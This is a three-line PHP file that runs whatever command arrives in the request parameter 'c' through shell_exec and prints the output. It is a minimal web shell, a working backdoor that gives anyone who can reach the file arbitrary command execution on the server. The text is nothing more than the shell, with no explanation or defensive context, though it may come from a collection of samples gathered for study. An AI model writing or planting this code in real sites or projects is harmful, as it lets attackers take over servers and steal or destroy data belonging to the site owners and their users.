<?php
$cmd = $_REQUEST['c'];
echo "<pre>" . shell_exec($cmd) . "</pre>";
